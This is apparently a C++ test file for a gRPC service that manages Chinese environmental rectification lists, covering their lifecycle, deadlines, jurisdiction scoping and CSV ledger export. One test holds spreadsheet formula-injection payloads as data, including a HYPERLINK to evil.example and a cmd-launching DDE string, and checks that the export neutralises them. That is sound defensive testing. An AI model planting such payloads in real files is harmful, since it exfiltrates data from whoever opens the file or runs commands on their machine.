// Tests of SupervisionService's rectification lists on a real gRPC server
// (127.0.0.1, port 0) over a real RocksDB store, with cases driven through
// the real CaseService RPCs: create, add, progress per unit, refusal to close
// with open items, remove, close once every case is CLOSED, history,
// jurisdiction scoping, and the CSV ledger parsed back.
#include "server/supervision_service.h"

#include <memory>
#include <set>
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_format.h"
#include "base/proto_time.h"
#include "base/sha256.h"
#include "base/simulated_clock.h"
#include "gmock/gmock.h"
#include "grpcpp/grpcpp.h"
#include "gtest/gtest.h"
#include "projection/verifier.h"
#include "rectify/v1/case_service.grpc.pb.h"
#include "rectify/v1/supervision_service.grpc.pb.h"
#include "server/case_service.h"
#include "server/deadline_scheduler.h"
#include "server/pipeline.h"
#include "server/principals.h"
#include "storage/rocks_event_store.h"
#include "tests/csv_rows.h"
#include "tests/server/grpc_call.h"
#include "tests/server/seed_units.h"
#include "tests/server/supervision_server.h"
#include "tests/status_matchers.h"
#include "tests/subprocess.h"
#include "tests/temp_dir.h"
#include "workflow/policy.h"

namespace rectify::server {
namespace {

using ::rectify::testing::CallAs;
using ::rectify::testing::ParseCsvRows;
using ::rectify::testing::PrincipalEntry;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::Not;

// 2026-03-02 09:00 in China (01:00 UTC).
const absl::Time kStart =
    absl::FromCivil(absl::CivilSecond(2026, 3, 2, 1, 0, 0), absl::UTCTimeZone());

// A supervisor of Ganzhou District (620702), the other county.
constexpr char kGanzhouSupervisorToken[] = "test-supervisor-ganzhou";

class SupervisionServiceTest : public ::testing::Test {
 protected:
  void SetUp() override {
    std::string text = rectify::testing::ReadFileOrEmpty(
        rectify::testing::Runfile("config/principals.demo.textproto"));
    absl::StrAppend(&text, PrincipalEntry("sup-ganzhou", "ROLE_SUPERVISOR", "ganzhou-eeb",
                                          "620702", kGanzhouSupervisorToken));
    ASSERT_OK(server_.Start(text, policy_, clock_, dir_.Sub("db")));
    // The units the cases go to, in the directory (workflow/units.h).
    ASSERT_OK(rectify::testing::SeedUnit(server_.pipeline(), "minle-hongshui-town", "620722",
                                         "洪水镇人民政府"));
    ASSERT_OK(rectify::testing::SeedUnit(server_.pipeline(), "minle-liuba-town", "620722",
                                         "六坝镇人民政府"));
    store_ = &server_.store();
    pipeline_ = &server_.pipeline();
    case_stub_ = &server_.cases();
    stub_ = &server_.supervision();
  }

  void TearDown() override { server_.Stop(); }

  std::string Report(const std::string& title, const std::string& region = "620722100",
                     const std::string& token = "demo-inspector") {
    v1::ReportCaseRequest request;
    request.set_command_id("report-" + std::to_string(++sequence_));
    request.set_title(title);
    request.set_category(v1::CATEGORY_AIR);
    request.set_severity(v1::SEVERITY_HIGH);
    request.set_source(v1::CASE_SOURCE_HOTLINE_12369);
    request.mutable_complainant()->set_name("刘芳");
    request.mutable_complainant()->set_phone("13800000000");
    request.mutable_location()->set_region_code(region);
    *request.mutable_found_at() = ToProto(kStart - absl::Hours(1));
    v1::ReportCaseResponse response;
    const grpc::Status status =
        CallAs(*case_stub_, &v1::CaseService::Stub::ReportCase, token, request, &response);
    EXPECT_TRUE(status.ok()) << status.error_message();
    return response.case_().case_id();
  }

  void Assign(const std::string& case_id, const std::string& unit,
              absl::Time due = kStart + absl::Hours(24 * 20)) {
    v1::AssignCaseRequest request;
    request.set_command_id("assign-" + case_id);
    request.set_case_id(case_id);
    request.set_responsible_unit(unit);
    request.set_requirements("覆盖料堆，安装喷淋");
    *request.mutable_rectification_due_at() = ToProto(due);
    v1::AssignCaseResponse response;
    const grpc::Status status = CallAs(*case_stub_, &v1::CaseService::Stub::AssignCase,
                                       "demo-supervisor", request, &response);
    ASSERT_TRUE(status.ok()) << status.error_message();
  }

  // The CSV ledger (with its BOM) of a new list of 620722 holding only
  // `case_id`, exported by the supervisor.
  void LedgerOfOneCase(const std::string& case_id, std::string* csv) {
    v1::CreateRectificationListResponse created;
    ASSERT_TRUE(Create("demo-supervisor", "620722", &created).ok());
    v1::AddListItemsResponse added;
    ASSERT_TRUE(Add("demo-supervisor", created.list().list_id(), {case_id}, &added).ok());
    v1::ExportLedgerRequest request;
    request.set_list_id(created.list().list_id());
    ASSERT_TRUE(Export("demo-supervisor", request, csv).ok());
  }

  // Drives an ASSIGNED case of minle-hongshui-town to CLOSED through the
  // real RPCs (the default policy has no public notice).
  void CloseThroughRpcs(const std::string& case_id) {
    using Stub = v1::CaseService::Stub;
    v1::StartRectificationRequest start;
    start.set_command_id("start-" + case_id);
    start.set_case_id(case_id);
    v1::StartRectificationResponse started;
    ASSERT_TRUE(
        CallAs(*case_stub_, &Stub::StartRectification, "demo-rectifier", start, &started).ok());
    v1::SubmitCompletionRequest submit;
    submit.set_command_id("submit-" + case_id);
    submit.set_case_id(case_id);
    submit.set_summary("料堆已全部覆盖");
    v1::SubmitCompletionResponse submitted;
    ASSERT_TRUE(
        CallAs(*case_stub_, &Stub::SubmitCompletion, "demo-rectifier", submit, &submitted).ok());
    v1::VerifyRectificationRequest verify;
    verify.set_command_id("verify-" + case_id);
    verify.set_case_id(case_id);
    verify.set_passed(true);
    v1::VerifyRectificationResponse verified;
    ASSERT_TRUE(
        CallAs(*case_stub_, &Stub::VerifyRectification, "demo-inspector", verify, &verified).ok());
    v1::CloseCaseRequest close;
    close.set_command_id("close-" + case_id);
    close.set_case_id(case_id);
    v1::CloseCaseResponse closed;
    const grpc::Status status =
        CallAs(*case_stub_, &Stub::CloseCase, "demo-supervisor", close, &closed);
    ASSERT_TRUE(status.ok()) << status.error_message();
    ASSERT_EQ(closed.case_().status(), v1::CASE_STATUS_CLOSED);
  }

  grpc::Status Create(const std::string& token, const std::string& region,
                      v1::CreateRectificationListResponse* response,
                      const std::string& command_id = "") {
    v1::CreateRectificationListRequest request;
    request.set_command_id(command_id.empty() ? "create-" + std::to_string(++sequence_)
                                              : command_id);
    request.set_title("第二轮中央生态环境保护督察反馈问题整改清单");
    request.set_origin("central inspection round 2");
    request.set_owner_unit("minle-eeb");
    request.set_region_code(region);
    return CallAs(*stub_, &v1::SupervisionService::Stub::CreateRectificationList, token, request,
                  response);
  }

  grpc::Status Add(const std::string& token, const std::string& list_id,
                   const std::vector<std::string>& case_ids, v1::AddListItemsResponse* response) {
    v1::AddListItemsRequest request;
    request.set_command_id("add-" + std::to_string(++sequence_));
    request.set_list_id(list_id);
    for (const std::string& id : case_ids) request.add_case_ids(id);
    return CallAs(*stub_, &v1::SupervisionService::Stub::AddListItems, token, request, response);
  }

  grpc::Status Remove(const std::string& list_id, const std::string& case_id,
                      v1::RemoveListItemResponse* response) {
    v1::RemoveListItemRequest request;
    request.set_command_id("remove-" + std::to_string(++sequence_));
    request.set_list_id(list_id);
    request.set_case_id(case_id);
    request.set_reason("经核实不属于本轮督察反馈问题");
    return CallAs(*stub_, &v1::SupervisionService::Stub::RemoveListItem, "demo-supervisor", request,
                  response);
  }

  grpc::Status CloseList(const std::string& list_id, v1::CloseRectificationListResponse* response) {
    v1::CloseRectificationListRequest request;
    request.set_command_id("close-list-" + std::to_string(++sequence_));
    request.set_list_id(list_id);
    request.set_remark("全部销号");
    return CallAs(*stub_, &v1::SupervisionService::Stub::CloseRectificationList, "demo-supervisor",
                  request, response);
  }

  grpc::Status Get(const std::string& token, const std::string& list_id,
                   v1::GetRectificationListResponse* response) {
    v1::GetRectificationListRequest request;
    request.set_list_id(list_id);
    return CallAs(*stub_, &v1::SupervisionService::Stub::GetRectificationList, token, request,
                  response);
  }

  // The whole CSV an export streams, or the status it ended with.
  grpc::Status Export(const std::string& token, const v1::ExportLedgerRequest& request,
                      std::string* csv, int* messages = nullptr) {
    grpc::ClientContext context;
    context.AddMetadata("authorization", "Bearer " + token);
    auto reader = stub_->ExportLedger(&context, request);
    v1::ExportLedgerResponse chunk;
    int count = 0;
    while (reader->Read(&chunk)) {
      csv->append(chunk.chunk());
      ++count;
    }
    if (messages != nullptr) *messages = count;
    return reader->Finish();
  }

  v1::Case StoredCase(const std::string& case_id) {
    auto state = store_->GetCase(case_id);
    EXPECT_OK(state.status());
    return state.ok() ? *state : v1::Case();
  }

  rectify::testing::TempDir dir_;
  SimulatedClock clock_{kStart};
  workflow::Policy policy_;
  rectify::testing::SupervisionServer server_;
  // Parts of server_.
  storage::RocksEventStore* store_ = nullptr;
  CommandPipeline* pipeline_ = nullptr;
  v1::CaseService::Stub* case_stub_ = nullptr;
  v1::SupervisionService::Stub* stub_ = nullptr;
  int sequence_ = 0;
};

TEST_F(SupervisionServiceTest, ListLifecycleWithProgressRemovalAndClosing) {
  const std::string a = Report("砂石料场扬尘未覆盖");
  const std::string b = Report("养殖场粪污直排");
  const std::string c = Report("加油站油气回收未运行");
  Assign(a, "minle-hongshui-town");
  Assign(b, "minle-hongshui-town");
  Assign(c, "minle-liuba-town");

  v1::CreateRectificationListResponse created;
  ASSERT_TRUE(Create("demo-supervisor", "620722", &created, "create-list-1").ok());
  const std::string list_id = created.list().list_id();
  EXPECT_EQ(list_id, "L-620722-2026-0001");
  EXPECT_EQ(created.list().status(), v1::LIST_STATUS_OPEN);
  // A retry with the same command id gets the same list, not a second one.
  v1::CreateRectificationListResponse again;
  ASSERT_TRUE(Create("demo-supervisor", "620722", &again, "create-list-1").ok());
  EXPECT_EQ(again.list().list_id(), list_id);
  // Only a supervisor creates lists.
  v1::CreateRectificationListResponse refused;
  EXPECT_EQ(Create("demo-inspector", "620722", &refused).error_code(),
            grpc::StatusCode::PERMISSION_DENIED);

  v1::AddListItemsResponse added;
  ASSERT_TRUE(Add("demo-supervisor", list_id, {a, b, c}, &added).ok());
  ASSERT_EQ(added.list().items_size(), 3);
  EXPECT_EQ(added.list().items(0).case_id(), a);
  EXPECT_EQ(added.list().items(2).item_number(), 3);
  EXPECT_THAT(StoredCase(a).list_ids(), ElementsAre(list_id));

  // A case already on it, and a case of the other county, are refused.
  v1::AddListItemsResponse twice;
  const grpc::Status duplicate = Add("demo-supervisor", list_id, {a}, &twice);
  EXPECT_EQ(duplicate.error_code(), grpc::StatusCode::FAILED_PRECONDITION);
  EXPECT_THAT(duplicate.error_message(), HasSubstr("already item 1"));
  const std::string foreign = Report("河道倾倒垃圾", "620702001", "demo-inspector-ganzhou");
  v1::AddListItemsResponse outside;
  const grpc::Status out = Add("demo-supervisor", list_id, {foreign}, &outside);
  EXPECT_EQ(out.error_code(), grpc::StatusCode::INVALID_ARGUMENT);
  EXPECT_THAT(out.error_message(), HasSubstr("case_ids[0]"));

  v1::GetRectificationListResponse progress;
  ASSERT_TRUE(Get("demo-supervisor", list_id, &progress).ok());
  EXPECT_EQ(progress.progress().total(), 3);
  EXPECT_EQ(progress.progress().closed(), 0);
  ASSERT_EQ(progress.unit_progress_size(), 2);
  EXPECT_EQ(progress.unit_progress(0).responsible_unit(), "minle-hongshui-town");
  EXPECT_EQ(progress.unit_progress(0).progress().total(), 2);
  EXPECT_EQ(progress.unit_progress(1).responsible_unit(), "minle-liuba-town");
  EXPECT_EQ(progress.unit_progress(1).progress().total(), 1);
  EXPECT_EQ(progress.progress().overdue(), 0);

  // Past the 20-day deadline the scheduler marks all three overdue.
  clock_.Advance(absl::Hours(24 * 21));
  DeadlineScheduler scheduler(*store_, *pipeline_, clock_);
  ASSERT_OK(scheduler.RunOnce().status());
  ASSERT_TRUE(Get("demo-supervisor", list_id, &progress).ok());
  EXPECT_EQ(progress.progress().overdue(), 3);
  EXPECT_EQ(progress.unit_progress(0).progress().overdue(), 2);
  EXPECT_EQ(progress.unit_progress(1).progress().overdue(), 1);

  // Removing C; its number is not given again when it comes back.
  v1::RemoveListItemResponse removed;
  ASSERT_TRUE(Remove(list_id, c, &removed).ok());
  EXPECT_EQ(removed.list().items_size(), 2);
  EXPECT_THAT(StoredCase(c).list_ids(), ::testing::IsEmpty());
  ASSERT_TRUE(Add("demo-supervisor", list_id, {c}, &added).ok());
  EXPECT_EQ(added.list().items(2).item_number(), 4);
  ASSERT_TRUE(Remove(list_id, c, &removed).ok());

  CloseThroughRpcs(a);
  v1::CloseRectificationListResponse closed;
  const grpc::Status open_item = CloseList(list_id, &closed);
  EXPECT_EQ(open_item.error_code(), grpc::StatusCode::FAILED_PRECONDITION);
  EXPECT_THAT(open_item.error_message(), HasSubstr(b));
  EXPECT_THAT(open_item.error_message(), Not(HasSubstr(a)));

  ASSERT_TRUE(Get("demo-supervisor", list_id, &progress).ok());
  EXPECT_EQ(progress.progress().total(), 2);
  EXPECT_EQ(progress.progress().closed(), 1);
  EXPECT_DOUBLE_EQ(progress.progress().closure_rate(), 0.5);

  CloseThroughRpcs(b);
  ASSERT_TRUE(CloseList(list_id, &closed).ok());
  EXPECT_EQ(closed.list().status(), v1::LIST_STATUS_CLOSED);
  // A closed list no longer changes.
  EXPECT_EQ(Add("demo-supervisor", list_id, {c}, &added).error_code(),
            grpc::StatusCode::FAILED_PRECONDITION);

  v1::GetRectificationListHistoryRequest history_request;
  history_request.set_list_id(list_id);
  v1::GetRectificationListHistoryResponse history;
  ASSERT_TRUE(CallAs(*stub_, &v1::SupervisionService::Stub::GetRectificationListHistory,
                     "demo-auditor", history_request, &history)
                  .ok());
  std::vector<int> payloads;
  for (const v1::Event& event : history.events()) payloads.push_back(event.payload_case());
  EXPECT_THAT(payloads, ElementsAre(v1::Event::kListCreated, v1::Event::kListItemAdded,
                                    v1::Event::kListItemAdded, v1::Event::kListItemAdded,
                                    v1::Event::kListItemRemoved, v1::Event::kListItemAdded,
                                    v1::Event::kListItemRemoved, v1::Event::kListClosed));

  v1::ListRectificationListsRequest list_request;
  list_request.set_status(v1::LIST_STATUS_CLOSED);
  v1::ListRectificationListsResponse lists;
  ASSERT_TRUE(CallAs(*stub_, &v1::SupervisionService::Stub::ListRectificationLists,
                     "demo-supervisor", list_request, &lists)
                  .ok());
  ASSERT_EQ(lists.lists_size(), 1);
  EXPECT_EQ(lists.lists(0).list_id(), list_id);
  list_request.set_status(v1::LIST_STATUS_OPEN);
  ASSERT_TRUE(CallAs(*stub_, &v1::SupervisionService::Stub::ListRectificationLists,
                     "demo-supervisor", list_request, &lists)
                  .ok());
  EXPECT_EQ(lists.lists_size(), 0);

  // Every append of those commands (list and case streams in one commit)
  // left a store whose projections and index keys re-fold from the events.
  auto report = projection::VerifyStore(*store_, projection::VerifyOptions());
  ASSERT_OK(report.status());
  EXPECT_TRUE(report->ok()) << ::testing::PrintToString(report->problems);
  EXPECT_EQ(report->list_streams_not_folded, 0);
}

TEST_F(SupervisionServiceTest, ACountySupervisorNeverSeesTheOtherCountysLists) {
  const std::string minle_case = Report("砂石料场扬尘未覆盖");
  const std::string ganzhou_case = Report("河道倾倒垃圾", "620702001", "demo-inspector-ganzhou");
  v1::CreateRectificationListResponse minle;
  ASSERT_TRUE(Create("demo-supervisor", "620722", &minle).ok());
  v1::AddListItemsResponse added;
  ASSERT_TRUE(Add("demo-supervisor", minle.list().list_id(), {minle_case}, &added).ok());
  v1::CreateRectificationListResponse ganzhou;
  ASSERT_TRUE(Create(kGanzhouSupervisorToken, "620702", &ganzhou).ok());
  EXPECT_EQ(ganzhou.list().list_id(), "L-620702-2026-0001");
  ASSERT_TRUE(Add(kGanzhouSupervisorToken, ganzhou.list().list_id(), {ganzhou_case}, &added).ok());
  // A list outside one's jurisdiction cannot be created either.
  v1::CreateRectificationListResponse refused;
  EXPECT_EQ(Create("demo-supervisor", "620702", &refused).error_code(),
            grpc::StatusCode::PERMISSION_DENIED);

  v1::ListRectificationListsResponse lists;
  ASSERT_TRUE(CallAs(*stub_, &v1::SupervisionService::Stub::ListRectificationLists,
                     "demo-supervisor", v1::ListRectificationListsRequest(), &lists)
                  .ok());
  ASSERT_EQ(lists.lists_size(), 1);
  EXPECT_EQ(lists.lists(0).list_id(), minle.list().list_id());
  // The city auditor (6207) sees both.
  ASSERT_TRUE(CallAs(*stub_, &v1::SupervisionService::Stub::ListRectificationLists, "demo-auditor",
                     v1::ListRectificationListsRequest(), &lists)
                  .ok());
  EXPECT_EQ(lists.lists_size(), 2);

  v1::GetRectificationListResponse got;
  EXPECT_EQ(Get("demo-supervisor", ganzhou.list().list_id(), &got).error_code(),
            grpc::StatusCode::PERMISSION_DENIED);
  EXPECT_EQ(Get("demo-rectifier", minle.list().list_id(), &got).error_code(),
            grpc::StatusCode::PERMISSION_DENIED);
  v1::AddListItemsResponse foreign_add;
  EXPECT_EQ(
      Add("demo-supervisor", ganzhou.list().list_id(), {minle_case}, &foreign_add).error_code(),
      grpc::StatusCode::PERMISSION_DENIED);

  v1::ExportLedgerRequest by_list;
  by_list.set_list_id(ganzhou.list().list_id());
  std::string csv;
  EXPECT_EQ(Export("demo-supervisor", by_list, &csv).error_code(),
            grpc::StatusCode::PERMISSION_DENIED);
  EXPECT_EQ(csv, "");
  v1::ExportLedgerRequest by_filter;
  by_filter.mutable_filter()->set_region_prefix("620702");
  EXPECT_EQ(Export("demo-supervisor", by_filter, &csv).error_code(),
            grpc::StatusCode::PERMISSION_DENIED);
  // An unscoped filter exports the caller's county only.
  by_filter.mutable_filter()->clear_region_prefix();
  csv.clear();
  ASSERT_TRUE(Export("demo-supervisor", by_filter, &csv).ok());
  EXPECT_THAT(csv, HasSubstr(minle_case));
  EXPECT_THAT(csv, Not(HasSubstr(ganzhou_case)));
  EXPECT_THAT(csv, Not(HasSubstr("河道倾倒垃圾")));
}

// A deadline that ends a day (00:00 China time of the next day) reads as
// that day, in Chinese, as a bureau's ledger writes it.
TEST_F(SupervisionServiceTest, LedgerWritesADeadlineAsTheDayItEnds) {
  const std::string id = Report("砂石料场扬尘未覆盖");
  // 2026-04-02 00:00 in China is 2026-04-01 16:00 UTC: the end of 1 April.
  Assign(id, "minle-hongshui-town",
         absl::FromCivil(absl::CivilSecond(2026, 4, 1, 16, 0, 0), absl::UTCTimeZone()));
  std::string csv;
  ASSERT_NO_FATAL_FAILURE(LedgerOfOneCase(id, &csv));
  const auto rows = ParseCsvRows(csv.substr(3));
  ASSERT_EQ(rows.size(), 2u) << csv;
  // The unit as people read it (issue 21), not its id.
  EXPECT_THAT(rows[1], ElementsAre("1", "砂石料场扬尘未覆盖", "洪水镇人民政府",
                                   "2026年4月1日", "覆盖料堆，安装喷淋", "", "已交办"));
}

// Issue 21's example: assigned on 2 December 2026 with the policy's default
// 30 calendar days, the period's last day is New Year's Day 2027, a holiday,
// followed by a weekend, so it ends with Monday 4 January (counted here by
// hand: 2 Dec + 30 days = 1 Jan; 1 Jan 元旦, 2 and 3 Jan Saturday and
// Sunday). The ledger writes that day, never 5 January 00:00.
TEST_F(SupervisionServiceTest, LedgerWritesAHolidayDeadlineAsTheNextWorkingDay) {
  const std::string id = Report("砂石料场扬尘未覆盖");
  // 2026-12-02 10:00 in China.
  clock_.Set(absl::FromCivil(absl::CivilSecond(2026, 12, 2, 2, 0, 0), absl::UTCTimeZone()));
  v1::AssignCaseRequest assign;
  assign.set_command_id("assign-default-" + id);
  assign.set_case_id(id);
  assign.set_responsible_unit("minle-hongshui-town");
  assign.set_requirements("覆盖料堆，安装喷淋");
  v1::AssignCaseResponse assigned;
  const grpc::Status status =
      CallAs(*case_stub_, &v1::CaseService::Stub::AssignCase, "demo-supervisor", assign, &assigned);
  ASSERT_TRUE(status.ok()) << status.error_message();
  // The due instant: the end of 4 January in China, 2027-01-04 16:00 UTC.
  EXPECT_EQ(assigned.case_().rectification_due_at().seconds(),
            absl::ToUnixSeconds(
                absl::FromCivil(absl::CivilSecond(2027, 1, 4, 16, 0, 0), absl::UTCTimeZone())));
  std::string csv;
  ASSERT_NO_FATAL_FAILURE(LedgerOfOneCase(id, &csv));
  const auto rows = ParseCsvRows(csv.substr(3));
  ASSERT_EQ(rows.size(), 2u) << csv;
  ASSERT_EQ(rows[1].size(), 7u) << csv;
  // 2027's holiday notice is not in the shipped calendar yet: the date may
  // carry the provisional mark after it.
  EXPECT_THAT(rows[1][3], ::testing::StartsWith("2027年1月4日")) << csv;
  EXPECT_THAT(rows[1][3], Not(HasSubstr("1月5日"))) << csv;
}

TEST_F(SupervisionServiceTest, LedgerCsvHasBomColumnsQuotingAndChineseText) {
  const std::string tricky = Report("料场\"东侧\"扬尘, 未覆盖");
  const std::string plain = Report("养殖场粪污直排");
  Assign(tricky, "minle-hongshui-town");
  v1::CreateRectificationListResponse created;
  ASSERT_TRUE(Create("demo-supervisor", "620722", &created).ok());
  v1::AddListItemsResponse added;
  ASSERT_TRUE(Add("demo-supervisor", created.list().list_id(), {tricky, plain}, &added).ok());

  v1::ExportLedgerRequest request;
  request.set_list_id(created.list().list_id());
  std::string csv;
  ASSERT_TRUE(Export("demo-inspector", request, &csv).ok());
  ASSERT_GE(csv.size(), 3u);
  EXPECT_EQ(csv.substr(0, 3), "\xEF\xBB\xBF");
  const auto rows = ParseCsvRows(csv.substr(3));
  ASSERT_EQ(rows.size(), 3u) << csv;
  EXPECT_THAT(rows[0],
              ElementsAre("编号", "问题", "责任单位", "整改时限", "整改措施", "整改进展", "状态"));
  EXPECT_THAT(rows[1], ElementsAre("1", "料场\"东侧\"扬尘, 未覆盖", "洪水镇人民政府",
                                   "2026年3月22日 09:00", "覆盖料堆，安装喷淋", "", "已交办"));
  EXPECT_THAT(rows[2], ElementsAre("2", "养殖场粪污直排", "", "", "", "", "待交办"));
  // Never complainant data, even for a supervisor.
  csv.clear();
  ASSERT_TRUE(Export("demo-supervisor", request, &csv).ok());
  EXPECT_THAT(csv, Not(HasSubstr("刘芳")));
  EXPECT_THAT(csv, Not(HasSubstr("13800000000")));

  // A filter export: one row per case in case-id order, numbered by case id.
  v1::ExportLedgerRequest by_filter;
  by_filter.mutable_filter()->add_statuses(v1::CASE_STATUS_FOUND);
  csv.clear();
  ASSERT_TRUE(Export("demo-supervisor", by_filter, &csv).ok());
  const auto found = ParseCsvRows(csv.substr(3));
  ASSERT_EQ(found.size(), 2u) << csv;
  EXPECT_EQ(found[1][0], plain);
}

// Issue 11, item 7: a title a spreadsheet would run as a formula is written
// with a leading apostrophe (OWASP, CSV Injection), for each of the six
// characters that start one; other titles are written as they are.
TEST_F(SupervisionServiceTest, LedgerCellsThatWouldBeFormulasAreNeutralised) {
  const std::vector<std::pair<std::string, std::string>> titles = {
      {"=HYPERLINK(\"http://evil.example/\"&A1,\"点击\")", "'=HYPERLINK(\"http://evil.example/\"&A1,\"点击\")"},
      {"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
      {"-2+3", "'-2+3"},
      {"@SUM(1,2)", "'@SUM(1,2)"},
      {"\t=1+1 河道", "'\t=1+1 河道"},
      {"\r=1+1 河道", "'\r=1+1 河道"},
      {"河道 =1+1", "河道 =1+1"},
      {"'已是文本", "'已是文本"},
  };
  std::set<std::string> expected;
  for (const auto& [title, cell] : titles) {
    Report(title);
    expected.insert(cell);
  }
  v1::ExportLedgerRequest by_filter;
  by_filter.mutable_filter()->add_statuses(v1::CASE_STATUS_FOUND);
  std::string csv;
  ASSERT_TRUE(Export("demo-supervisor", by_filter, &csv).ok());
  const auto rows = ParseCsvRows(csv.substr(3));
  ASSERT_EQ(rows.size(), titles.size() + 1) << csv;
  std::set<std::string> written;
  for (size_t i = 1; i < rows.size(); ++i) {
    ASSERT_EQ(rows[i].size(), 7u) << csv;
    written.insert(rows[i][1]);
  }
  EXPECT_EQ(written, expected);
}

TEST(CsvFieldTest, NeutralisesEachFormulaStartAndQuotesPerRfc4180) {
  EXPECT_EQ(CsvField("=1+1"), "'=1+1");
  EXPECT_EQ(CsvField("+1"), "'+1");
  EXPECT_EQ(CsvField("-1"), "'-1");
  EXPECT_EQ(CsvField("@A1"), "'@A1");
  EXPECT_EQ(CsvField("\tx"), "'\tx");
  EXPECT_EQ(CsvField("\rx"), "\"'\rx\"");
  EXPECT_EQ(CsvField("=A1,\"B\""), "\"'=A1,\"\"B\"\"\"");
  EXPECT_EQ(CsvField("a=b"), "a=b");
  EXPECT_EQ(CsvField("50% 已完成"), "50% 已完成");
  EXPECT_EQ(CsvField(""), "");
}

TEST_F(SupervisionServiceTest, ListsArePagedWithTokensOfTheirOwnQuery) {
  for (int i = 0; i < 3; ++i) {
    v1::CreateRectificationListResponse created;
    ASSERT_TRUE(Create("demo-supervisor", i == 2 ? "620722100" : "620722", &created).ok());
  }
  using Stub = v1::SupervisionService::Stub;
  v1::ListRectificationListsRequest request;
  request.set_page_size(2);
  v1::ListRectificationListsResponse first;
  ASSERT_TRUE(
      CallAs(*stub_, &Stub::ListRectificationLists, "demo-supervisor", request, &first).ok());
  ASSERT_EQ(first.lists_size(), 2);
  EXPECT_EQ(first.lists(0).items_size(), 0) << "lists come without their items";
  ASSERT_FALSE(first.next_page_token().empty());
  request.set_page_token(first.next_page_token());
  v1::ListRectificationListsResponse second;
  ASSERT_TRUE(
      CallAs(*stub_, &Stub::ListRectificationLists, "demo-supervisor", request, &second).ok());
  ASSERT_EQ(second.lists_size(), 1);
  EXPECT_TRUE(second.next_page_token().empty());
  std::set<std::string> ids = {first.lists(0).list_id(), first.lists(1).list_id(),
                               second.lists(0).list_id()};
  EXPECT_EQ(ids.size(), 3u);
  // A token is only good for the query that made it.
  request.set_region_prefix("620722100");
  v1::ListRectificationListsResponse refused;
  const grpc::Status spliced =
      CallAs(*stub_, &Stub::ListRectificationLists, "demo-supervisor", request, &refused);
  EXPECT_EQ(spliced.error_code(), grpc::StatusCode::INVALID_ARGUMENT);
  EXPECT_THAT(spliced.error_message(), HasSubstr("page_token"));
  request.clear_page_token();
  ASSERT_TRUE(
      CallAs(*stub_, &Stub::ListRectificationLists, "demo-supervisor", request, &first).ok());
  EXPECT_EQ(first.lists_size(), 1) << "the region filter";
  request.set_page_size(-1);
  EXPECT_EQ(CallAs(*stub_, &Stub::ListRectificationLists, "demo-supervisor", request, &refused)
                .error_code(),
            grpc::StatusCode::INVALID_ARGUMENT);
}

TEST_F(SupervisionServiceTest, LargeExportsAreStreamedInSeveralMessages) {
  std::vector<std::string> ids;
  for (int i = 0; i < 450; ++i) ids.push_back(Report(absl::StrCat("问题 ", i)));
  v1::CreateRectificationListResponse created;
  ASSERT_TRUE(Create("demo-supervisor", "620722", &created).ok());
  v1::AddListItemsResponse added;
  ASSERT_TRUE(Add("demo-supervisor", created.list().list_id(), ids, &added).ok());
  v1::ExportLedgerRequest request;
  request.set_list_id(created.list().list_id());
  std::string csv;
  int messages = 0;
  ASSERT_TRUE(Export("demo-supervisor", request, &csv, &messages).ok());
  EXPECT_GE(messages, 3);
  const auto rows = ParseCsvRows(csv.substr(3));
  ASSERT_EQ(rows.size(), 451u);
  EXPECT_EQ(rows[450][0], "450");
  EXPECT_EQ(rows[450][1], "问题 449");
}

}  // namespace
}  // namespace rectify::server
